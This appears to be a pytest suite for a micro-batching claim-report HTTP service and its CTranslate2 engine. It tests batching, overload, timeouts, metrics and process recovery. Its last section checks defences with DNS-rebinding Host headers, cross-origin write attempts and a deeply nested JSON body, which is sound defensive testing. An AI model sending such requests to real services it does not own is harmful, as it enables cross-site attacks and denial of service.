"""Tests of claim_t5.serve (the micro-batching HTTP service) and of the CTranslate2 engine (claim_t5.engines): requests
answered in batches without mix-ups, overload, deadlines, failing batches, health/ready/metrics, the list endpoint,
request validation, and CT2 float32 giving the same reports as transformers."""
import json
import shutil
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from claim_t5.schema import MetadataError
from claim_t5.data import load_claim_data
from claim_t5.facts import CheckedReport, FactCheckError
from claim_t5.inference import ClaimReportGenerator, ReportGenerator
from claim_t5.serve import MicroBatcher, create_app

META = dict(shipment_id="SHP-12345", image_id="img_0042.png", damage_type="dent", severity="high", vendor="TestCo",
            shipment_stage="transit")
META_STR = "shipment_id=SHP-12345; image_id=img_0042.png; damage_type=dent; severity=high; vendor=TestCo; shipment_stage=transit"
DAMAGES, SEVERITIES = ["dent", "scratch", "water damage", "crushed box"], ["low", "medium", "high"]


# ---------------------------------------------------------------- fixtures and helpers

@pytest.fixture(scope="module")
def model_dir(tiny_model_dir) -> Path:
    return tiny_model_dir


@pytest.fixture(scope="module")
def gen(model_dir) -> ClaimReportGenerator:
    return ClaimReportGenerator(model_dir, device="cpu")


def claims(n: int) -> list:
    "n different claims, each with its own shipment id."
    return [dict(shipment_id=f"SHP-{70000 + i}", damage_type=DAMAGES[i % 4], severity=SEVERITIES[i % 3],
                 vendor=f"Vendor{i % 5}") for i in range(n)]


class StandIn(ReportGenerator):
    "The real generator's validation and tokenizer with another `generate` (echo, slow, failing...)."
    def __init__(self, gen, generate):
        self._gen, self.generate = gen, generate
        self.tokenizer, self.cfg, self.model_dir, self.gen_kwargs, self.engine = gen.tokenizer, gen.cfg, gen.model_dir, gen.gen_kwargs, gen.engine

    @property
    def checker(self): return self._gen.checker


def echo(texts): return [f"report for {t}" for t in texts]


def make_client(app):
    from fastapi.testclient import TestClient
    return TestClient(app, raise_server_exceptions=False, base_url="http://127.0.0.1")  # a Host the service accepts


def wait_until(cond, timeout=5.0):
    end = time.monotonic() + timeout
    while not cond():
        if time.monotonic() > end: raise AssertionError("condition not reached in time")
        time.sleep(0.002)


# ---------------------------------------------------------------- the HTTP service: validation (moved from test_inference)

@pytest.fixture(scope="module")
def client(gen):
    from fastapi.testclient import TestClient
    with TestClient(create_app(gen), base_url="http://127.0.0.1") as c:
        yield c


def test_service_good_request(client, gen):
    r = client.post("/generate_claim", json=META)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["report"] == gen(META)
    assert body["input"] == META_STR
    assert body["unknown_fields"] == []


def test_service_optional_fields_may_be_left_out(client, gen):
    meta = dict(shipment_id="SHP-1", damage_type="dent", severity="low")
    r = client.post("/generate_claim", json=meta)
    assert r.status_code == 200, r.text
    assert r.json()["report"] == gen(meta)


def test_service_missing_field(client):
    r = client.post("/generate_claim", json={k: v for k, v in META.items() if k != "severity"})
    assert r.status_code == 422
    assert "severity" in r.text


@pytest.mark.parametrize("field,value", [("shipment_id", 12345), ("severity", None), ("damage_type", ["dent"]),
                                         ("vendor", 3), ("severity", True)])
def test_service_wrong_type(client, field, value):
    r = client.post("/generate_claim", json={**META, field: value})
    assert r.status_code == 422, r.text
    assert field in r.text


@pytest.mark.parametrize("value", ["", "   "])
def test_service_empty_value(client, value):
    r = client.post("/generate_claim", json={**META, "shipment_id": value})
    assert r.status_code == 422, r.text
    assert "shipment_id" in r.text


def test_service_overlong_value(client):
    r = client.post("/generate_claim", json={**META, "vendor": "x" * 201})
    assert r.status_code == 422
    assert "vendor" in r.text


@pytest.mark.parametrize("body", [b'{"shipment_id": "SHP-1", ', b"not json at all", b"[1, 2]", b""])
def test_service_malformed_body(client, body):
    r = client.post("/generate_claim", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 422, (r.status_code, r.text)


def test_service_body_too_large_declared(client):
    # a declared length over the limit is refused before the body is read
    r = client.post("/generate_claim", content=b"{}", headers={"content-type": "application/json",
                                                              "content-length": "100000"})
    assert r.status_code == 413


def test_service_large_valid_json(client):
    big = {**META, "notes": "n" * 10000}   # valid JSON, over 8192 bytes
    r = client.post("/generate_claim", json=big)
    assert r.status_code == 413


def test_service_large_body_without_length(client):
    # a body sent in chunks declares no length: it is counted as it arrives
    payload = json.dumps({**META, "notes": "n" * 10000}).encode()
    chunks = (payload[i:i+1000] for i in range(0, len(payload), 1000))
    r = client.post("/generate_claim", content=chunks, headers={"content-type": "application/json"})
    assert r.status_code == 413, (r.status_code, r.text)


def test_service_body_limit_is_configurable(gen):
    from fastapi.testclient import TestClient
    with TestClient(create_app(gen, max_body_bytes=100), base_url="http://127.0.0.1") as c:
        assert c.post("/generate_claim", json={**META, "notes": "n" * 200}).status_code == 413
        assert c.post("/generate_claim", json=dict(shipment_id="S1", damage_type="dent", severity="low")).status_code == 200


def test_service_unknown_field(client, gen):
    with pytest.warns(UserWarning, match=r"unknown field\(s\) \['colour'\]"):  # the in-thread generator's own warning
        r = client.post("/generate_claim", json={**META, "colour": "red"})
    assert r.status_code == 200, r.text
    assert r.json()["unknown_fields"] == ["colour"]
    assert "colour=red" in r.json()["input"]


def test_service_unknown_field_not_a_string(client):
    r = client.post("/generate_claim", json={**META, "priority": {"level": 3}})
    assert r.status_code == 422
    assert "priority" in r.text


def test_service_health(client, model_dir):
    assert client.get("/health").json() == {"status": "ok"}  # open: nothing about the model
    r = client.get("/status")
    assert r.status_code == 200
    body = r.json()
    assert body["status"] == "ok" and body["tiny"] is True
    assert body["model_dir"] == str(model_dir)



def test_service_refuses_metadata_over_the_token_limit(client, gen):
    # each value is within the 200-character limit, together they are far over max_input_length tokens
    r = client.post("/generate_claim", json={**META, "vendor": "Vendor " * 28, "notes": "long note " * 19,
                                             "extra": "more words " * 18})
    assert r.status_code == 422 and "tokens" in r.text and str(gen.cfg.max_input_length) in r.text


# ---------------------------------------------------------------- micro-batching

def test_concurrent_requests_each_get_their_own_report(gen):
    # an echoing stand-in makes a mix-up visible: each answer must name its own request's shipment id
    sizes = []
    def generate(texts): sizes.append(len(texts)); time.sleep(0.02); return echo(texts)
    app = create_app(StandIn(gen, generate), batch_size=16, max_wait_ms=20)
    cs = claims(32)
    with make_client(app) as c, ThreadPoolExecutor(16) as ex:
        rs = list(ex.map(lambda m: c.post("/generate_claim", json=m), cs))
    assert [r.status_code for r in rs] == [200] * 32
    for m, r in zip(cs, rs):
        assert f"shipment_id={m['shipment_id']};" in r.json()["report"] and m["shipment_id"] in r.json()["input"]
    assert sum(sizes) == 32 and max(sizes) > 1, sizes  # requests were batched together


def test_concurrent_requests_real_model(gen):
    cs = claims(12)
    with make_client(create_app(gen, batch_size=8, max_wait_ms=20)) as c, ThreadPoolExecutor(12) as ex:
        rs = list(ex.map(lambda m: c.post("/generate_claim", json=m), cs))
    assert [r.status_code for r in rs] == [200] * 12
    assert [r.json()["report"] for r in rs] == [gen(m) for m in cs]
    assert [r.json()["input"].split(";")[0] for r in rs] == [f"shipment_id={m['shipment_id']}" for m in cs]


def test_full_queue_answers_503_at_once(gen):
    gate, started = threading.Event(), threading.Event()
    def generate(texts): started.set(); gate.wait(10); return echo(texts)
    app = create_app(StandIn(gen, generate), batch_size=1, max_queue=2, max_claims=2)
    b = app.state.batcher
    with make_client(app) as c, ThreadPoolExecutor(3) as ex:
        held = ex.submit(c.post, "/generate_claim", json=claims(1)[0])
        assert started.wait(5)  # the first request is in the worker, blocked
        queued = [ex.submit(c.post, "/generate_claim", json=m) for m in claims(2)]
        wait_until(lambda: b.pending == 2)
        t0 = time.perf_counter()
        r = c.post("/generate_claim", json=claims(3)[2])
        assert r.status_code == 503 and time.perf_counter() - t0 < 1.0
        assert int(r.headers["Retry-After"]) >= 1 and "queue full" in r.text
        gate.set()
        assert held.result(10).status_code == 200 and [q.result(10).status_code for q in queued] == [200, 200]
        assert c.post("/generate_claim", json=META).status_code == 200  # room again
        assert 'claim_t5_errors_total{reason="overloaded"} 1.0' in c.get("/metrics").text


def test_failing_batch_answers_500_then_the_next_succeeds(gen):
    calls = []
    def generate(texts):
        calls.append(texts)
        if len(calls) == 1: raise RuntimeError("CUDA error: device-side assert triggered")
        return echo(texts)
    with make_client(create_app(StandIn(gen, generate))) as c:
        r = c.post("/generate_claim", json=META)
        assert r.status_code == 500 and "generation failed" in r.text and "device-side assert" in r.text
        r = c.post("/generate_claim", json=META)
        assert r.status_code == 200 and r.json()["report"] == f"report for {META_STR}"
        assert c.get("/ready").status_code == 200
        assert 'claim_t5_errors_total{reason="generation_failed"} 1.0' in c.get("/metrics").text


def test_deadline_answers_504(gen):
    def generate(texts): time.sleep(0.6); return echo(texts)
    with make_client(create_app(StandIn(gen, generate), timeout_s=0.2)) as c:
        t0 = time.perf_counter()
        r = c.post("/generate_claim", json=META)
        assert r.status_code == 504 and time.perf_counter() - t0 < 0.55


def test_fact_verdicts_and_strict_refusals(gen):
    # results carrying a verdict are serialised; a strict refusal is a 422 for its own request only
    def generate(texts):
        if any("SHP-BAD" in t for t in texts): raise FactCheckError([(0, "shipment_id=SHP-BAD", ["shipment id invented"])])
        return [CheckedReport(f"report for {t}", {"ok": True, "failing": []}) for t in texts]
    gate = threading.Event()
    app = create_app(StandIn(gen, lambda texts: (gate.wait(10), generate(texts))[1]), max_wait_ms=50)
    with make_client(app) as c, ThreadPoolExecutor(3) as ex:
        first = ex.submit(c.post, "/generate_claim", json=META)
        time.sleep(0.1)
        bad = ex.submit(c.post, "/generate_claim", json={**META, "shipment_id": "SHP-BAD"})
        good = ex.submit(c.post, "/generate_claim", json={**META, "shipment_id": "SHP-GOOD"})
        wait_until(lambda: app.state.batcher.pending == 2)
        gate.set()
        assert first.result(10).json()["facts"] == {"ok": True, "failing": []}
        assert bad.result(10).status_code == 422 and "shipment_id=SHP-BAD" in bad.result().text
        assert good.result(10).status_code == 200 and "SHP-GOOD" in good.result().json()["report"]


def test_shutdown_finishes_queued_requests():
    def slow(texts): time.sleep(0.05); return [t.upper() for t in texts]
    b = MicroBatcher(slow, batch_size=2, max_queue=10).start()
    futs = [b.submit([f"r{i}"]) for i in range(6)]
    b.close(timeout=10)
    assert [f.result(0) for f in futs] == [[f"R{i}"] for i in range(6)]


# ---------------------------------------------------------------- the list endpoint

def test_list_endpoint_equals_single_calls(gen):
    cs = claims(6) + [META]
    with make_client(create_app(gen)) as c:
        many = c.post("/generate_claims", json={"claims": cs})
        assert many.status_code == 200, many.text
        singles = [c.post("/generate_claim", json=m).json() for m in cs]
    assert many.json()["results"] == singles


def test_list_endpoint_limits_and_names_the_bad_claim(gen):
    with make_client(create_app(gen, max_claims=4)) as c:
        assert c.post("/generate_claims", json={"claims": claims(5)}).status_code == 422
        assert c.post("/generate_claims", json={"claims": []}).status_code == 422
        r = c.post("/generate_claims", json={"claims": [META, {"shipment_id": "SHP-1", "damage_type": "dent"}]})
        assert r.status_code == 422 and "severity" in r.text and "1" in json.dumps(r.json()["detail"])
        r = c.post("/generate_claims", json={"claims": [META, {**META, "vendor": "Vendor " * 28, "notes": "long note " * 19,
                                                                "extra": "more words " * 18}]})
        assert r.status_code == 422 and "claims[1]" in r.text and "tokens" in r.text


# ---------------------------------------------------------------- health, readiness, metrics

def test_health_ready_and_metrics(gen, model_dir):
    app = create_app(gen)
    with make_client(app) as c:
        assert c.get("/health").json()["status"] == "ok"
        r = c.get("/ready")
        assert r.status_code == 200 and r.json()["ready"] is True
        assert c.post("/generate_claim", json=META).status_code == 200
        assert c.post("/generate_claim", json={"shipment_id": "SHP-1"}).status_code == 422
        m = c.get("/metrics")
    assert m.status_code == 200 and m.headers["content-type"].startswith("text/plain")
    text = m.text
    assert 'claim_t5_requests_total{endpoint="/generate_claim",status="200"} 1.0' in text
    assert 'claim_t5_requests_total{endpoint="/generate_claim",status="422"} 1.0' in text
    assert 'claim_t5_errors_total{reason="invalid"} 1.0' in text
    assert "claim_t5_queue_reports 0.0" in text
    assert 'claim_t5_batch_size_bucket{le="1.0"} 1.0' in text and "claim_t5_batch_size_count 1.0" in text
    assert 'claim_t5_request_seconds_count{endpoint="/generate_claim"} 2.0' in text
    # after shutdown the service is alive but not ready, and refuses new work with 503
    c2 = make_client(app)
    assert c2.get("/health").status_code == 200 and c2.get("/ready").status_code == 503
    r = c2.post("/generate_claim", json=META)
    assert r.status_code == 503 and "shutting down" in r.text


# ---------------------------------------------------------------- the CTranslate2 engine

def test_unknown_engine_is_refused(model_dir):
    from claim_t5.engines import EngineError
    with pytest.raises(EngineError, match="transformers, ct2"): ClaimReportGenerator(model_dir, engine="onnx")
    with pytest.raises(EngineError, match="float32, int8"): ClaimReportGenerator(model_dir, engine="ct2", compute_type="int4")


def test_missing_ctranslate2_names_the_extra(model_dir, monkeypatch):
    from claim_t5.engines import EngineError
    monkeypatch.setitem(sys.modules, "ctranslate2", None)  # as if it were not installed
    with pytest.raises(EngineError, match=r"claim_t5\[fast\]"): ClaimReportGenerator(model_dir, engine="ct2")


@pytest.fixture(scope="module")
def ct2_dir(tmp_path_factory) -> Path:
    pytest.importorskip("ctranslate2")
    return tmp_path_factory.mktemp("ct2")/"tiny_ct2"


@pytest.fixture(scope="module")
def test_inputs() -> list:
    return list(load_claim_data()["test"].select(range(24))["input"])


def test_ct2_float32_gives_the_same_reports(model_dir, gen, ct2_dir, test_inputs):
    fast = ClaimReportGenerator(model_dir, device="cpu", engine="ct2", ct2_dir=ct2_dir)
    assert (ct2_dir/"model.bin").exists() and "ct2/float32" in repr(fast)
    assert fast(test_inputs) == gen(test_inputs)
    assert fast(META) == gen(META)


def test_ct2_is_converted_once(model_dir, ct2_dir, tmp_path):
    pytest.importorskip("ctranslate2")
    from claim_t5.engines import ensure_ct2
    ClaimReportGenerator(model_dir, device="cpu", engine="ct2", ct2_dir=ct2_dir)
    before = (ct2_dir/"model.bin").stat().st_mtime_ns
    def must_not_load(): raise AssertionError("converted again")
    assert ensure_ct2(model_dir, must_not_load, ct2_dir) == ct2_dir
    assert (ct2_dir/"model.bin").stat().st_mtime_ns == before
    # a changed model is converted again
    import shutil
    other = shutil.copytree(model_dir, tmp_path/"m")
    cfg = json.loads((other/"adapter_config.json").read_text()); cfg["lora_dropout"] = 0.0
    (other/"adapter_config.json").write_text(json.dumps(cfg))
    stamp = json.loads((ct2_dir/"claim_t5_source.json").read_text())["fingerprint"]
    from claim_t5.engines import model_fingerprint
    assert model_fingerprint(other) != stamp


def test_service_with_ct2_engine(model_dir, gen, ct2_dir):
    fast = ClaimReportGenerator(model_dir, device="cpu", engine="ct2", ct2_dir=ct2_dir)
    with make_client(create_app(fast)) as c:
        r = c.post("/generate_claims", json={"claims": claims(4)})
        assert c.get("/status").json()["engine"] == "ct2"
    assert [x["report"] for x in r.json()["results"]] == gen(claims(4))


def test_auto_engine_is_ct2_on_a_cpu_with_the_same_reports(model_dir, gen, ct2_dir, test_inputs):
    auto = ClaimReportGenerator(model_dir, device="cpu", engine="auto", ct2_dir=ct2_dir)
    assert auto.engine == "ct2" and auto.compute_type == "float32" and "ct2/float32" in repr(auto)
    assert auto(test_inputs) == gen(test_inputs)
    assert [r.facts for r in auto(test_inputs)] == [r.facts for r in gen(test_inputs)]


def test_auto_engine_without_ctranslate2_is_transformers(model_dir, monkeypatch, tmp_path):
    import claim_t5.engines
    monkeypatch.setattr(claim_t5.engines, "ct2_installed", lambda: False)
    g = ClaimReportGenerator(model_dir, device="cpu", engine="auto", ct2_dir=tmp_path/"ct2")
    assert g.engine == "transformers" and g._ct2 is None and not (tmp_path/"ct2").exists()


def test_auto_engine_falls_back_when_the_cache_cannot_be_written(model_dir, gen, tmp_path):
    pytest.importorskip("ctranslate2")
    (tmp_path/"a_file").write_text("")
    blocked = tmp_path/"a_file"/"ct2"  # under a file: no folder can be made there (even as root)
    with pytest.warns(UserWarning, match="engine auto: CTranslate2 could not be used"):
        g = ClaimReportGenerator(model_dir, device="cpu", engine="auto", ct2_dir=blocked)
    assert g.engine == "transformers" and g(META) == gen(META)
    with pytest.raises(OSError): ClaimReportGenerator(model_dir, device="cpu", engine="ct2", ct2_dir=blocked)  # asked by name: an error


def test_auto_engine_keeps_transformers_for_settings_ct2_would_not_apply(model_dir, tmp_path):
    pytest.importorskip("ctranslate2")
    import shutil
    m = shutil.copytree(model_dir, tmp_path/"m")
    gc = json.loads((m/"generation_config.json").read_text()); gc["repetition_penalty"] = 1.3
    (m/"generation_config.json").write_text(json.dumps(gc))
    assert ClaimReportGenerator(m, device="cpu", engine="auto").engine == "transformers"  # auto promises the same reports
    with pytest.warns(UserWarning, match=r"does not apply the model's generation setting\(s\) \['repetition_penalty'\]"):
        assert ClaimReportGenerator(m, device="cpu", engine="ct2", ct2_dir=tmp_path/"ct2").engine == "ct2"  # asked by name: warned


def test_graceful_shutdown_answers_requests_in_flight(gen):
    # a real uvicorn server in a thread; should_exit is what its SIGTERM/Ctrl-C handler sets
    import socket
    import httpx
    import uvicorn
    sizes = []
    def slow(texts): sizes.append(len(texts)); time.sleep(0.3); return echo(texts)
    app = create_app(StandIn(gen, slow), batch_size=4, max_wait_ms=50)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    th = threading.Thread(target=server.run, daemon=True); th.start()
    wait_until(lambda: server.started, 10)
    url = f"http://127.0.0.1:{port}"
    with ThreadPoolExecutor(8) as ex:
        futs = [ex.submit(httpx.post, url + "/generate_claim", json=m, timeout=30) for m in claims(8)]
        wait_until(lambda: sizes and sizes[0] + app.state.batcher.pending == 8, 20)  # all 8 in the service
        server.should_exit = True  # shutdown begins while requests are queued and generating
        rs = [f.result(30) for f in futs]
    th.join(30)
    assert not th.is_alive()
    assert [r.status_code for r in rs] == [200] * 8
    assert all(m["shipment_id"] in r.json()["report"] for m, r in zip(claims(8), rs))
    assert not app.state.batcher.accepting


# ---------------------------------------------------------------- the engine option on the command line

def test_cli_engine_option(model_dir, gen, ct2_dir, tmp_path):
    from conftest import run_cli
    m = shutil.copytree(model_dir, tmp_path/"m")  # the CLI caches the converted model inside the model folder
    ok, again, bad = (run_cli("claim_t5_generate", "--model_dir", m, *a) for a in
                      [("--engine", "ct2", "--input", META_STR), ("--input", META_STR), ("--engine", "onnx", "--input", META_STR)])
    assert ok.returncode == 0, ok.stderr[-2000:]
    assert ok.stdout.strip() == gen(META_STR) and (m/"ct2_model"/"model.bin").exists()
    assert f"claim_t5: converting {m} for CTranslate2 (once; cached in {m/'ct2_model'})" in ok.stderr  # said, once
    assert again.returncode == 0 and again.stdout == ok.stdout and "converting" not in again.stderr  # auto: the cache
    assert bad.returncode != 0 and "unknown engine 'onnx'" in bad.stderr and "Traceback" not in bad.stderr


# ---------------------------------------------------------------- generation in a separate process (GenerationProcess)

@pytest.fixture(scope="module")
def proc_gen(model_dir):
    "The tiny model in a child process; each app's shutdown stops the child, the next app's start starts a new one."
    from claim_t5.serve import GenerationProcess
    g = GenerationProcess(model_dir, threads=1, device="cpu")
    yield g
    g.close()


def pid_alive(pid: int) -> bool:
    import os
    try: os.kill(pid, 0)
    except ProcessLookupError: return False
    return True


@pytest.mark.slow  # starts generation processes (seconds each); the 04b notebook's checks start one in the fast path
def test_process_concurrent_requests_each_get_their_own_report(proc_gen, gen):
    cs = claims(12)
    app = create_app(proc_gen, batch_size=8, max_wait_ms=20)
    with make_client(app) as c, ThreadPoolExecutor(12) as ex:
        proc_gen.wait_ready()
        assert c.get("/ready").status_code == 200 and c.get("/status").json()["process"] == "separate"
        rs = list(ex.map(lambda m: c.post("/generate_claim", json=m), cs))
        many = c.post("/generate_claims", json={"claims": cs[:3]})
        metrics = c.get("/metrics").text
    assert [r.status_code for r in rs] == [200] * 12
    assert [r.json()["input"].split(";")[0] for r in rs] == [f"shipment_id={m['shipment_id']}" for m in cs]
    assert [r.json()["report"] for r in rs] == [gen(m) for m in cs]  # the same reports as the generator in this process
    assert [r.json()["facts"] for r in rs] == [gen(m).facts for m in cs]  # with their fact verdicts
    assert many.json()["results"] == [r.json() for r in rs[:3]]
    batches = float(next(l.split()[1] for l in metrics.splitlines() if l.startswith("claim_t5_batch_size_count")))
    assert "claim_t5_batch_size_sum 15.0" in metrics and batches < 13  # some requests shared a batch


@pytest.mark.slow  # starts generation processes (seconds each); the 04b notebook's checks start one in the fast path
def test_process_strict_refusal_is_a_422_for_its_request(model_dir, gen):
    # a seconds-trained model fails the fact check on most inputs: in strict mode the child raises FactCheckError,
    # which must come back through the pipe as a refusal (422 naming the facts), not a 500
    from claim_t5.serve import GenerationProcess
    failing = next(m for m in claims(20) if not gen(m).facts["ok"])
    g = GenerationProcess(model_dir, threads=1, device="cpu", strict=True)
    with make_client(create_app(g)) as c:
        r = c.post("/generate_claim", json=failing)
    assert r.status_code == 422, r.text
    assert "failed the fact check" in r.text and failing["shipment_id"] in r.text
    assert g.pid is None


@pytest.mark.slow  # starts generation processes (seconds each); the 04b notebook's checks start one in the fast path
def test_process_death_mid_batch_answers_500_then_recovers(proc_gen):
    import os
    import signal
    app = create_app(proc_gen, batch_size=64)
    with make_client(app) as c, ThreadPoolExecutor(1) as ex:
        proc_gen.wait_ready()
        first = proc_gen.pid
        fut = ex.submit(c.post, "/generate_claims", json={"claims": claims(48)})  # a batch that takes a while
        wait_until(lambda: app.state.batcher.pending == 0 and fut.running(), 10)
        time.sleep(0.1)  # the batch is in the child now
        os.kill(first, signal.SIGKILL)
        r = fut.result(60)
        assert r.status_code == 500 and "generation process died" in r.text, r.text
        r = c.post("/generate_claim", json=META)  # waits for the new child to load the model
        assert r.status_code == 200, r.text
        assert proc_gen.pid != first and not pid_alive(first)
        assert c.get("/ready").status_code == 200 and c.get("/status").json()["restarts"] == 1
        assert "claim_t5_generation_restarts_total 1.0" in c.get("/metrics").text


@pytest.mark.slow  # starts generation processes (seconds each)
def test_process_hung_mid_batch_answers_500_then_recovers(model_dir, tmp_path):
    # a child that is alive but never answers (SIGSTOP stands in for a deadlock): killed after batch_timeout_s, replaced,
    # and the replacement loaded at once (ready again without waiting for traffic); engine auto: the child says ct2
    import os
    import signal
    from claim_t5.engines import ct2_installed
    from claim_t5.serve import GenerationProcess
    g = GenerationProcess(model_dir, threads=1, device="cpu", batch_timeout_s=5, engine="auto", ct2_dir=tmp_path/"ct2")
    app = create_app(g, batch_size=64)
    engine = "ct2" if ct2_installed() else "transformers"
    with make_client(app) as c:
        g.wait_ready()
        assert g.engine == engine and c.get("/status").json()["engine"] == engine
        first = g.pid
        os.kill(first, signal.SIGSTOP)  # before the batch is sent: it can never answer, however fast the engine
        r = c.post("/generate_claims", json={"claims": claims(8)})
        assert r.status_code == 500 and "gave no answer in 5 s" in r.text, r.text
        assert not pid_alive(first)  # killed, not left stopped
        wait_until(lambda: g.ready, 60)  # the new child loads without a request
        assert c.get("/ready").status_code == 200 and g.pid != first and g.engine == engine
        r = c.post("/generate_claim", json=META)
        assert r.status_code == 200, r.text
        assert c.get("/status").json()["restarts"] == 1
    assert g.pid is None


@pytest.mark.slow  # starts a generation process (seconds)
def test_process_close_during_a_hung_batch_starts_no_new_child(model_dir):
    import multiprocessing
    import os
    import signal
    from claim_t5.serve import GenerationProcess, GenerationProcessDied
    g = GenerationProcess(model_dir, threads=1, device="cpu").wait_ready()  # no batch timeout: only close ends the wait
    child = g.pid
    os.kill(child, signal.SIGSTOP)
    with ThreadPoolExecutor(1) as ex:
        fut = ex.submit(g.generate, ["shipment_id=SHP-1; damage_type=dent; severity=low"])
        time.sleep(0.5)
        g.close(timeout=1)  # cannot take the lock (the batch holds it): stops the child anyway
        with pytest.raises(GenerationProcessDied, match="shutting down"): fut.result(30)
    assert g.pid is None and not pid_alive(child)
    assert not [p for p in multiprocessing.active_children() if p.name == "claim_t5-generation"]  # none started after


@pytest.mark.parametrize("module", ["claim_t5.serve", "claim_t5.inference"])
def test_commands_default_to_engine_auto(module):
    import importlib
    from fastcore.script import anno_parser
    main = importlib.import_module(module).main
    assert anno_parser(main.__wrapped__).parse_args(["--model_dir", "m"]).engine == "auto"


@pytest.mark.slow  # starts generation processes (seconds each); the 04b notebook's checks start one in the fast path
def test_process_shutdown_answers_in_flight_and_stops_the_child(proc_gen):
    # a real uvicorn server in a thread; should_exit is what its SIGTERM/Ctrl-C handler sets
    import multiprocessing
    import socket
    import httpx
    import uvicorn
    app = create_app(proc_gen, batch_size=4, max_wait_ms=50)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    th = threading.Thread(target=server.run, daemon=True); th.start()
    wait_until(lambda: server.started, 30)
    proc_gen.wait_ready()
    child = proc_gen.pid
    url = f"http://127.0.0.1:{port}"
    with ThreadPoolExecutor(8) as ex:
        futs = [ex.submit(httpx.post, url + "/generate_claim", json=m, timeout=60) for m in claims(8)]
        # all 8 accepted (a connection still being set up when shutdown begins would be refused, rightly)
        wait_until(lambda: app.state.batcher._arrivals >= 8, 30)
        answered = sum(c._value.get() for c in app.state.metrics.requests._metrics.values())
        server.should_exit = True  # shutdown begins while requests are queued and generating
        assert answered < 8, "every request was answered before shutdown began: nothing was in flight"
        rs = [f.result(60) for f in futs]
    th.join(60)
    assert not th.is_alive()
    assert [r.status_code for r in rs] == [200] * 8
    assert all(m["shipment_id"] in r.json()["input"] for m, r in zip(claims(8), rs))
    assert proc_gen.pid is None and not pid_alive(child)  # no orphan
    assert child not in [p.pid for p in multiprocessing.active_children()]


# ---------------------------------------------------------------- issue 29: loopback is not trust, every bad input a 4xx, bounded work

GOOD_CSV = b"id,shipment_id,damage_type,severity\nr1,SHP-1,dent,high\nr2,SHP-2,dent,low\n"
JSON = {"content-type": "application/json"}


def checked_echo(gen):
    "An echo whose reports carry the model's fact check, as the desk's endpoints expect."
    from claim_t5.facts import CheckedReport
    return lambda texts: [CheckedReport(r, gen.check(t, r)) for t in texts for r in [f"report for {t}"]]


def finished(c, job_id, timeout=20.0, headers=None):
    "The batch job's status once it has its rows."
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        s = c.get(f"/api/batch/{job_id}", headers=headers or {}).json()
        if s.get("rows") is not None: return s
        time.sleep(0.02)
    raise AssertionError(f"batch {job_id} not finished in {timeout} s")


def test_host_allow_list_refuses_rebinding(gen):
    from fastapi.testclient import TestClient
    app = create_app(StandIn(gen, checked_echo(gen)), allowed_hosts=["claims.example.com"])
    with TestClient(app, raise_server_exceptions=False, base_url="http://127.0.0.1:8000") as c:
        assert c.get("/api/schema").status_code == 200
        for host in ("evil.example", "127.0.0.1.nip.io", "testserver"):  # a DNS-rebinding page sends its own name
            assert c.get("/api/reviews", headers={"host": host}).status_code == 400, host
            assert c.post("/api/draft", json={"meta": META}, headers={"host": host}).status_code == 400, host
        assert c.get("/health", headers={"host": "localhost:8000"}).status_code == 200
        assert c.get("/health", headers={"host": "claims.example.com"}).status_code == 200  # --allowed_hosts


@pytest.mark.parametrize("ctype", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
def test_json_endpoints_take_only_json(gen, ctype):
    "What a form or a no-cors fetch on another page can send without asking is refused with 415 on every write."
    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
        for path, body in [("/api/draft", {"meta": META}), ("/api/check", {"input": META_STR, "report": "x"}), ("/generate_claim", META),
                           ("/generate_claims", {"claims": [META]}), ("/api/reviews", {"input": META_STR})]:
            r = c.post(path, content=json.dumps(body), headers={"content-type": ctype})
            assert r.status_code == 415 and "application/json" in r.text, (path, r.status_code, r.text)
        r = c.post("/api/batch?filename=day.csv", content=GOOD_CSV, headers={"content-type": ctype})
        assert r.status_code == 415, r.text
        assert c.post("/api/batch?filename=day.csv", content=GOOD_CSV, headers={"content-type": "text/csv"}).status_code == 200
        assert c.post("/api/draft", json={"meta": META}).status_code == 200


def test_writes_from_another_origin_are_refused(gen):
    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
        for headers in ({"origin": "http://evil.example"}, {"origin": "null"}, {"sec-fetch-site": "cross-site"},
                        {"origin": "http://127.0.0.1:9999"}):  # another port is another origin
            r = c.post("/api/draft", json={"meta": META}, headers=headers)
            assert r.status_code == 403 and "another site" in r.text, (headers, r.status_code)
            assert c.post("/api/batch?filename=d.csv", content=GOOD_CSV, headers={**headers, "content-type": "text/csv"}).status_code == 403
        assert c.post("/api/draft", json={"meta": META}, headers={"origin": "http://127.0.0.1", "sec-fetch-site": "same-origin"}).status_code == 200


def test_page_headers_keep_other_sites_out(gen):
    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
        for path in ("/", "/desk/desk.js", "/desk/desk.css"):
            h = c.get(path).headers
            assert h["content-security-policy"] == "default-src 'self'; frame-ancestors 'none'", path
            assert h["x-content-type-options"] == "nosniff", path


def test_health_says_ok_only_and_answers_head(gen, model_dir):
    KEY = "k" * 40
    with make_client(create_app(StandIn(gen, checked_echo(gen)), api_key=KEY)) as c:
        r = c.get("/health")
        assert r.json() == {"status": "ok"} and str(model_dir) not in r.text  # no path, no pid, without the key
        assert c.head("/health").status_code == 200
        assert c.head("/ready").status_code == 401 and c.head("/ready", headers={"X-API-Key": KEY}).status_code == 200
        assert c.get("/status").status_code == 401
        assert c.get("/status", headers={"X-API-Key": KEY}).json()["model_dir"] == str(model_dir)  # the details, behind the key


def test_nested_json_nul_bytes_and_file_names_are_4xx(gen):
    "Bad input is answered 4xx naming it, never 500."
    deep = b"[" * 4000 + b"]" * 4000
    with make_client(create_app(StandIn(gen, checked_echo(gen)))) as c:
        for path in ("/api/check", "/api/draft", "/generate_claim", "/api/reviews"):
            r = c.post(path, content=deep, headers=JSON)
            assert 400 <= r.status_code < 500, (path, r.status_code, r.text)
